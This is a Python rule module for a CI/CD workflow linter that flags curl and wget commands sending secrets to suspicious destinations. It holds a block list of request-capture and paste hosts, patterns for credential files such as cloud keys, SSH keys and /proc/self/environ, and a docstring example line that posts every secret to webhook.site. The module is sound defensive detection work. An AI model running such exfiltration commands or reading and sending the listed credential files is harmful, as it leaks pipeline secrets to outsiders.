from __future__ import annotations

from cicdlint import lazyre, shell
from cicdlint.contexts import is_untrusted
from cicdlint.expressions import find_expressions
from cicdlint.rule import Issue, rule

# Services that capture whatever is sent to them for someone to read later (request bins,
# tunnels to a laptop, paste sites, out-of-band interaction servers): the classic
# destinations of an exfiltration, never a place a pipeline needs to send a secret.
CAPTURE_HOSTS = (
    "webhook.site", "requestbin.com", "requestbin.net", "requestcatcher.com", "pipedream.net", "pipedream.com",
    "ngrok.io", "ngrok-free.app", "ngrok.app", "ngrok-free.dev", "burpcollaborator.net", "oastify.com", "oast.pro",
    "oast.live", "oast.site", "oast.online", "oast.fun", "oast.me", "interact.sh", "interactsh.com", "canarytokens.com",
    "transfer.sh", "termbin.com", "pastebin.com", "paste.ee", "hastebin.com", "ix.io", "0x0.st", "trycloudflare.com",
    "loca.lt", "serveo.net", "beeceptor.com", "hookbin.com", "postb.in", "ptsv2.com", "ptsv3.com", "webhook.cool",
    "dnslog.cn", "ceye.io", "requestinspector.com", "localtunnel.me", "pinggy.link", "bore.pub",
)
# Secrets that belong to one service, by name, and the hosts of that service. A token of the
# service sent to a host of another service is suspicious.
SERVICE_SECRETS = (
    ("GitHub", lazyre.compile(r"(?:^|_)(?:GITHUB|GH)(?:_|$).*(?:TOKEN|PAT)|(?:TOKEN|PAT).*(?:^|_)(?:GITHUB|GH)(?:_|$)"),
     ("github.com", "githubusercontent.com", "ghcr.io", "ghe.com", "githubapp.com", "coveralls.io"), ("github", "ghe")),
    ("Slack", lazyre.compile(r"(?:^|_)SLACK(?:_|$)"), ("slack.com",), ()),
    ("Discord", lazyre.compile(r"(?:^|_)DISCORD(?:_|$)"), ("discord.com", "discordapp.com"), ()),
    ("Telegram", lazyre.compile(r"(?:^|_)(?:TELEGRAM|TG_BOT)(?:_|$)"), ("telegram.org",), ()),
    ("Codecov", lazyre.compile(r"(?:^|_)CODECOV(?:_|$)"), ("codecov.io",), ()),
    ("Docker Hub", lazyre.compile(r"(?:^|_)DOCKERHUB(?:_|$)"), ("docker.io", "docker.com"), ()),
)
_URL = lazyre.compile(r"(?i)^(?:(?P<scheme>[a-z][a-z0-9+.-]*)://)?(?:[^/@?#\s]*@)?(?P<host>\[[^\]]*\]|[^/:?#\s]*)")
# Secrets that are keys, not tokens: they sign on the runner and are never sent to a server
# (AWS secret access keys, private keys, kubeconfigs).
_KEY_MATERIAL = lazyre.compile(
    r"PRIVATE_?KEY|SECRET_ACCESS_KEY|AWS_SECRET_KEY|(?:^|_)SSH_?KEY|(?:^|_)KUBE_?CONFIG|GPG_?KEY|PGP_?KEY|SIGNING_?KEY"
    r"|(?:^|_)PEM(?:_|$)|KEYSTORE|(?:^|_)P12(?:_|$)|(?:^|_)PFX(?:_|$)"
)
# Files that hold the job's credentials: the checkout's token (`.git/config`), what login
# actions and tools write under $HOME, the process environment, `$GITHUB_ENV`.
_HOME = r"(?:~|\$\{?HOME\}?|/home/runner|/root)"
_CREDENTIAL_FILE = lazyre.compile(
    r"(?:^|/)\.git/config$"
    rf"|^{_HOME}/(?:\.aws/credentials|\.docker/config\.json|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.kube/config"
    r"|\.ssh/id_[\w.-]+|\.config/gcloud/\S+|\.azure/\S+)$"
    r"|^/proc/(?:self|\d+|\$\w+|\*)/(?:environ|mem)$"
    r"|^\$\{?(?:GITHUB_ENV|KUBECONFIG|GOOGLE_APPLICATION_CREDENTIALS|GOOGLE_GHA_CREDS_PATH|DOCKER_CONFIG)\}?$"
)
_IPV4 = lazyre.compile(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}")
_ENV_DUMP_SUBSTITUTION = lazyre.compile(r"(?:\$\(|`)\s*(?:env|printenv)(?=\s*(?:\)|\||`|$))")
_CLIENTS = {"curl", "wget"}
_CURL_VALUE_LETTERS = set("AbcCdDeEFhHKmoOQrtTuUwxXyYz")
_CURL_VALUE_LONG = {
    "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "--form", "--form-string",
    "--header", "--proxy-header", "--user", "--cookie", "--cookie-jar", "--upload-file", "--oauth2-bearer", "--output",
    "--request", "--user-agent", "--referer", "--cacert", "--cert", "--key", "--config", "--max-time", "--connect-timeout",
    "--retry", "--retry-delay", "--retry-max-time", "--write-out", "--proxy", "--proxy-user", "--resolve", "--connect-to",
    "--limit-rate", "--range", "--continue-at", "--dump-header", "--trace", "--trace-ascii", "--stderr", "--interface",
    "--url", "--variable", "--expand-url", "--aws-sigv4", "--pass", "--noproxy", "--output-dir", "--max-filesize",
    "--request-target", "--capath", "--ciphers", "--key-type", "--cert-type", "--hostpubmd5", "--ftp-port",
    "--mail-from", "--mail-rcpt", "--tls-max", "--form-escape", "--netrc-file", "--unix-socket", "--abstract-unix-socket",
}
_WGET_VALUE_SHORT = set("oaOPUetTwQiBlDXIAR")
_WGET_VALUE_LONG = {
    "--header", "--post-data", "--post-file", "--body-data", "--body-file", "--method", "--user", "--password",
    "--http-user", "--http-password", "--output-document", "--output-file", "--user-agent", "--referer", "--ca-certificate",
    "--certificate", "--private-key", "--tries", "--timeout", "--wait", "--directory-prefix", "--load-cookies",
    "--save-cookies", "--input-file", "--base", "--execute", "--proxy-user", "--proxy-password", "--quota",
}
_INSECURE = {"curl": {"-k", "--insecure"}, "wget": {"--no-check-certificate"}}
_WRITERS = {"echo", "printf"}
_ENV_DUMPS = {"env", "printenv", "set", "export", "declare"}
_LOCAL = ("localhost", "127.", "0.0.0.0", "::1", "[::1]", "host.docker.internal")
_ASSIGN_COMMANDS = {"export", "declare", "local", "readonly", "typeset"}


@rule(
    id="secret-exfiltration",
    kinds=("workflow", "action"),
    severity="error",
    summary="A script sends secrets with curl or wget to a place they do not belong",
    tags=("security", "secrets"),
    security_severity=8.0,
    confidence="high",
)
def check(doc, ctx):
    """## What it does
    Finds `curl` and `wget` commands in `run:` scripts (and SSH action scripts) that send a
    secret (`${{ secrets.X }}`, `${{ github.token }}`, a variable whose `env:` or earlier
    assignment holds one, a file a secret was written to) in a way that is suspicious:

    - every secret or the whole environment: `toJSON(secrets)`, `$(env)`, `env | curl -d @-`,
      a file written from `toJSON(secrets)` (error);
    - a file that holds the job's credentials, uploaded or piped in: `.git/config` (the
      checkout's token), `~/.aws/credentials`, `~/.docker/config.json`, `~/.npmrc`,
      `~/.ssh/id_*`, `/proc/self/environ`, `$GITHUB_ENV`, `$GOOGLE_APPLICATION_CREDENTIALS` (error);
    - to a request-capture, tunnel or paste service (`webhook.site`, `*.ngrok.io`,
      `*.oast.*`, `pipedream.net`, `pastebin.com` ...) (error);
    - to a URL taken from text an outsider controls (`${{ github.event.comment.body }}`) (error);
    - in clear text over `http://` to a host outside the runner's network (warning);
    - with TLS verification off (`curl -k`, `wget --no-check-certificate`) (warning);
    - key material by its name (`*PRIVATE_KEY*`, `AWS_SECRET_ACCESS_KEY`, `*SSH_KEY*`,
      `KUBECONFIG`, signing keys) sent anywhere: keys sign on the runner, they are never sent
      (error, medium confidence; `curl --aws-sigv4 --user` signs and is fine);
    - a token of one service (by its name: `GITHUB_TOKEN`, `GH_PAT`, `SLACK_*`,
      `DISCORD_*`, `TELEGRAM_*`, `CODECOV_*`, `DOCKERHUB_*`) to a host of another, or any
      secret to a bare public IP address (warnings, medium confidence).

    A secret sent to its own service (a `GITHUB_TOKEN` header to `api.github.com` or
    `${{ github.api_url }}`, a bot token to `api.telegram.org`), a secret that *is* the URL (a
    webhook URL kept as a secret) and an API key sent over HTTPS to a named host are the normal
    use of a secret and are not reported: checkov's CKV_GHA_3, which fails any line holding
    both `curl` and `secret`, reports those too.

    ## Why is this bad?
    These are the shapes exfiltration takes: a compromised action, dependency or pull request
    adds one line that ships the secrets to a server the attacker reads, and the workflow
    log shows nothing but a successful `curl`. Sent in clear text or without certificate
    checks, a legitimate secret can be read by anyone on the network path. A token sent to a
    service it does not belong to is either a mistake or a leak.

    ## Example
    ```yaml
    steps:
      - run: |
          curl -s -d "${{ toJSON(secrets) }}" https://webhook.site/0f1e2d3c
          curl -H "Authorization: token $GITHUB_TOKEN" http://metrics.example.com/report
        env:
          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
    ```

    ## Use instead
    ```yaml
    steps:
      - run: |
          curl -fsS -H "Authorization: Bearer $GITHUB_TOKEN" "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/releases"
          curl -fsS -H "Authorization: Bearer $METRICS_TOKEN" https://metrics.example.com/report
        env:
          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
          METRICS_TOKEN: ${{ secrets.METRICS_TOKEN }}
    ```
    Send each secret only to the service it was issued by, over HTTPS with certificate checks
    on, and pass it through `env:` one secret at a time. If a line like the one reported was
    not written on purpose, treat the secrets as leaked: rotate them and find out how the line
    got there.
    """
    for step in ctx.steps():
        for scalar, _where in step.scripts():
            script = scalar.value
            if "curl" not in script and "wget" not in script:
                continue
            env = _env_secrets(step)
            yield from _Script(ctx, scalar, env).issues()


def _env_secrets(step) -> dict[str, list[str]]:
    found = {}
    for name, var in step.env.items():
        names = list(var.secrets)
        value = getattr(var.value, "value", None)
        if isinstance(value, str) and "github.token" in value.lower():
            names.append("GITHUB_TOKEN")
        if names:
            found[name] = names
    return found


class _Script:
    def __init__(self, ctx, scalar, env: dict[str, list[str]]):
        self.ctx, self.scalar, self.script = ctx, scalar, scalar.value
        self.vars = dict(env)  # shell variable -> secrets it holds
        self.aliases: dict[str, set[str]] = {}  # secret -> names of the variables that hold it
        for name, secrets in env.items():
            for secret in secrets:
                self.aliases.setdefault(secret, set()).add(name)
        self.files: dict[str, list[str]] = {}  # file -> secrets written to it ("*" for all, "env" for a dump)
        self.env_has_secrets = bool(env)

    def issues(self):
        nested = shell.parse_nested(self.script)
        previous = None
        seen = set()
        for item in nested:
            command = item.command
            self._remember(command)
            words = shell.strip_wrappers(command.words)
            name = words[0].value.rsplit("/", 1)[-1] if words else ""
            if name in _CLIENTS and command.start not in seen:
                seen.add(command.start)
                piped = previous if command.piped_in and previous is not None and previous.piped_out else None
                issue = self._check(name, words, command, piped)
                if issue is not None:
                    yield issue
            previous = command

    # --- what holds secrets -------------------------------------------------------------------

    def _secrets_in(self, text: str) -> list[str]:
        """Secrets a word's text expands to ("*" for all of them, "env" for an environment dump)."""
        found = []
        if "${{" in text:
            for expression in find_expressions(text):
                analysis = expression.analysis
                if analysis.dynamic_secrets or "secrets" in analysis.flowing:
                    found.append("*")
                for path in analysis.flowing:
                    if path.startswith("secrets."):
                        found.append(path.split(".", 2)[1])
                    elif path == "github.token":
                        found.append("GITHUB_TOKEN")
        if "$" in text:
            for var, _, _, is_length in shell.variable_refs(text):
                if not is_length and var in self.vars:
                    found.extend(self.vars[var])
            if _ENV_DUMP_SUBSTITUTION.search(text):
                found.append("env")
        return found

    def _remember(self, command) -> None:
        """Variables assigned and files written from secrets, in script order."""
        assignments = list(command.assignments)
        words = command.words
        if words and words[0].value in _ASSIGN_COMMANDS:
            assignments += [word for word in words[1:] if "=" in word.text]
        for word in assignments:
            name, _, value = word.text.partition("=")
            name = name.rstrip("+")
            secrets = self._secrets_in(value)
            if secrets:
                self.vars[name] = secrets
                for secret in secrets:
                    self.aliases.setdefault(secret, set()).add(name)
            elif not command.words and name in self.vars:
                del self.vars[name]
        written = []
        stripped = shell.strip_wrappers(words) if words else []
        if stripped and stripped[0].value in _ENV_DUMPS and all(word.value.startswith("-") for word in stripped[1:]):
            written.append("env")
        elif stripped and stripped[0].value in _WRITERS:
            for word in stripped[1:]:
                written.extend(self._secrets_in(word.text))
        for redirect in command.redirects:
            if redirect.op in (">", ">>", ">|", "&>", "&>>") and redirect.target is not None and written:
                self.files.setdefault(redirect.target.value, []).extend(written)

    # --- one curl / wget command --------------------------------------------------------------

    def _check(self, client: str, words, command, piped) -> Issue | None:
        urls, sent, insecure = _arguments(client, words)
        secrets = []
        for word in sent:
            secrets.extend(self._secrets_in(word.text))
            value = word.value
            for candidate in {value, value.rsplit("=", 1)[-1]}:  # `-d @f`, `-F file=@f`, `--post-file=f`, `-T f`
                path = candidate[1:] if candidate[:1] in ("@", "<") else candidate
                if path in self.files:
                    secrets.extend(self.files[path])
            if (value in ("@-", "-") or value.endswith("=@-")) and piped is not None:
                secrets.extend(self._piped_secrets(piped))
        files = [path for word in sent for path in _paths(word.value) if _CREDENTIAL_FILE.search(path)]
        if piped is not None and any(value in ("@-", "-") or value.endswith("=@-") for value in (w.value for w in sent)):
            files += self._piped_files(piped)
        target = urls[0] if urls else None
        url = target.value if target is not None else ""
        destination = _destination(url)
        if files:
            span = self.ctx.locate(self.scalar, command.start, max(1, command.end - command.start))
            where = f"'{_short(url)}'" if url else "a URL"
            return Issue(span, f"This `{client}` uploads {files[0]} to {where}: the file holds the job's credentials (a "
                               "token, a key or the environment). Remove it; if nobody put it there on purpose, rotate the "
                               "credentials.")
        url_secrets = []
        for word in urls:
            found = self._secrets_in(word.text)
            if word is target and not destination.dynamic:
                secrets.extend(found)  # in the path or query of a named host: sent to it
            else:
                url_secrets.extend(found)  # the secret is (the start of) the URL: its own destination
        if not secrets and not url_secrets:
            return None
        shown = _shown(secrets or url_secrets)
        where = f"'{_short(url)}'" if url else "the URL"
        span = self.ctx.locate(self.scalar, command.start, max(1, command.end - command.start))

        if "*" in secrets or "env" in secrets:
            what = "every secret of the job" if "*" in secrets else "the whole environment, with its secrets"
            confidence = None if "*" in secrets or self.env_has_secrets else "medium"
            return Issue(span, f"This `{client}` sends {what} to {where}. Nothing in a pipeline needs to send all secrets "
                               "anywhere: remove the line, and if nobody put it there on purpose, rotate the secrets.",
                         confidence=confidence)
        if not secrets:
            # Only the URL holds a secret (a webhook URL kept as a secret): it is its own destination.
            return None
        if destination.capture:
            return Issue(span, f"This `{client}` sends {shown} to {destination.host}, a service that captures requests for "
                               "someone to read later. Remove it and rotate the secret unless this was put there on purpose.")
        if destination.untrusted:
            return Issue(span, f"This `{client}` sends {shown} to a URL built from {destination.untrusted}, which an outsider "
                               "can set: they choose where the secret goes. Use a fixed URL.")
        signs = any(word.value.startswith("--aws-sigv4") for word in words)  # curl signs with `--user key:secret`
        keys = [
            secret for secret in dict.fromkeys(secrets)
            for names in [[secret, *sorted(self.aliases.get(secret, ()))]]
            if any(_KEY_MATERIAL.search(name.upper()) for name in names)
            and not (signs and any("AWS" in name.upper() for name in names))
        ]
        if keys:
            return Issue(span, f"This `{client}` sends secrets.{keys[0]}, key material by its name, to {where}. Private keys "
                               "and AWS secret access keys sign on the runner and are never sent to a server; whoever "
                               "receives one can act as you. Remove it, and rotate the key unless this is on purpose.",
                         confidence="medium")
        if destination.scheme == "http" and destination.public:
            return Issue(span, f"Use https:// for {where}: this `{client}` sends {shown} in clear text, readable by anyone "
                               "on the network path.", severity="warning")
        if insecure:
            return Issue(span, f"Remove `{insecure}`: this `{client}` sends {shown} without checking the server's "
                               "certificate, so anyone on the network path can pose as the server and read it. Install the "
                               "server's CA certificate instead (`--cacert`).", severity="warning")
        if destination.ip and destination.public:
            return Issue(span, f"This `{client}` sends {shown} to the bare IP address {destination.host}. Send secrets only to "
                               "named hosts of the service that issued them (with a certificate for that name).",
                         severity="warning", confidence="medium")
        if destination.host and not destination.dynamic:
            for secret in dict.fromkeys(secrets):
                service = _service_of([secret, *sorted(self.aliases.get(secret, ()))])
                if service is not None and not _belongs(destination.host, service):
                    return Issue(span, f"This `{client}` sends secrets.{secret}, a {service[0]} token by its name, to "
                                       f"{destination.host}, which is not a {service[0]} host. Send it only to {service[0]}, "
                                       "and give the other service a token of its own.",
                                 severity="warning", confidence="medium")
        return None

    def _piped_files(self, command) -> list[str]:
        """Credential files that the command feeding a pipe prints (`cat ~/.aws/credentials |`)."""
        words = shell.strip_wrappers(command.words)
        if not words or words[0].value not in ("cat", "base64", "gzip", "tar", "zip", "xxd"):
            return []
        return [path for word in words[1:] for path in _paths(word.value) if _CREDENTIAL_FILE.search(path)]

    def _piped_secrets(self, command) -> list[str]:
        words = shell.strip_wrappers(command.words)
        if not words:
            return []
        if words[0].value in _ENV_DUMPS and all(word.value.startswith("-") for word in words[1:]):
            return ["env"]
        found = []
        for word in words[1:]:
            found.extend(self._secrets_in(word.text))
            if words[0].value == "cat" and word.value in self.files:
                found.extend(self.files[word.value])
        return found


def _arguments(client: str, words):
    """(URL words, words that are sent, the option that turns TLS checks off) of a curl / wget."""
    urls, sent, insecure = [], [], ""
    i = 1
    while i < len(words):
        word = words[i]
        value = word.value
        if value in _INSECURE[client]:
            insecure = value
        if value == "--":
            urls.extend(words[i + 1:])
            break
        if value.startswith("--"):
            option, has_value, _ = value.partition("=")
            long_values = _CURL_VALUE_LONG if client == "curl" else _WGET_VALUE_LONG
            if option == "--url":
                target = word if has_value else (words[i + 1] if i + 1 < len(words) else None)
                if target is not None:
                    urls.append(_after_equals(target) if has_value else target)
                i += 1 if has_value else 2
                continue
            if option in long_values:
                if has_value:
                    sent.append(word)
                    i += 1
                else:
                    if i + 1 < len(words):
                        sent.append(words[i + 1])
                    i += 2
                continue
            i += 1
            continue
        if value.startswith("-") and len(value) > 1:
            letters = _CURL_VALUE_LETTERS if client == "curl" else _WGET_VALUE_SHORT
            for position, letter in enumerate(value[1:], start=1):
                if letter == "k" and client == "curl":
                    insecure = insecure or "-k"
                if letter in letters:
                    if position + 1 < len(value):
                        sent.append(word)  # `-HAuthorization: ...`, `-XPOST`
                        i += 1
                    else:
                        if i + 1 < len(words):
                            sent.append(words[i + 1])
                        i += 2
                    break
            else:
                i += 1
            continue
        urls.append(word)
        i += 1
    return urls, sent, insecure


def _paths(value: str) -> list[str]:
    """File paths an argument names: `@file`, `<file`, `name=@file`, `file` (for `-T file`)."""
    found = []
    for candidate in {value, value.rsplit("=", 1)[-1]}:
        path = candidate[1:] if candidate[:1] in ("@", "<") else candidate
        found.append(path.split(";", 1)[0])  # `-F "f=@file;type=text/plain"`
    return found


def _after_equals(word):
    index = word.text.find("=")
    return shell.Word(word.text[index + 1:], word.start + index + 1, word.end)


class _Destination:
    __slots__ = ("scheme", "host", "capture", "ip", "public", "dynamic", "untrusted")

    def __init__(self):
        self.scheme = self.host = ""
        self.capture = self.ip = self.public = self.dynamic = False
        self.untrusted = ""


def _destination(url: str) -> _Destination:
    destination = _Destination()
    for expression in find_expressions(url):
        for path in expression.analysis.flowing:
            if is_untrusted(path):
                destination.untrusted = path
    match = _URL.match(url.strip())
    if match is None:
        return destination
    destination.scheme = (match.group("scheme") or "").lower()
    host = match.group("host").lower().strip("[]")
    destination.host = host
    destination.dynamic = not host or "$" in host or "{" in host or "`" in host
    if destination.dynamic:
        return destination
    destination.capture = any(host == name or host.endswith("." + name) for name in CAPTURE_HOSTS)
    destination.ip = bool(_IPV4.fullmatch(host)) or ":" in host
    destination.public = "." in host and not host.startswith(_LOCAL) and not _private_ip(host) and not host.endswith(
        (".local", ".internal", ".localhost", ".svc", ".cluster.local", ".lan", ".home.arpa"))
    return destination


def _private_ip(host: str) -> bool:
    if not _IPV4.fullmatch(host):
        return host.startswith(("fc", "fd", "fe80")) and ":" in host
    a, b = (int(part) for part in host.split(".")[:2])
    return a == 10 or a == 127 or (a == 172 and 16 <= b <= 31) or (a == 192 and b == 168) or (a == 169 and b == 254) or (
        a == 100 and 64 <= b <= 127)


def _service_of(names) -> tuple | None:
    """The service a secret belongs to, by its name or the names of the variables holding it."""
    for name in names:
        upper = name.upper()
        for service in SERVICE_SECRETS:
            if service[1].search(upper):
                return service
    return None


def _belongs(host: str, service) -> bool:
    _, _, suffixes, words = service
    if any(host == suffix or host.endswith("." + suffix) for suffix in suffixes):
        return True
    return any(word in host for word in words)


def _shown(secrets: list[str]) -> str:
    names = [name for name in dict.fromkeys(secrets) if name not in ("*", "env")]
    labels = [f"secrets.{name}" for name in names[:3]] + (["..."] if len(names) > 3 else [])
    return ", ".join(labels) if labels else "a secret"


def _short(url: str) -> str:
    return url if len(url) <= 70 else url[:67] + "..."
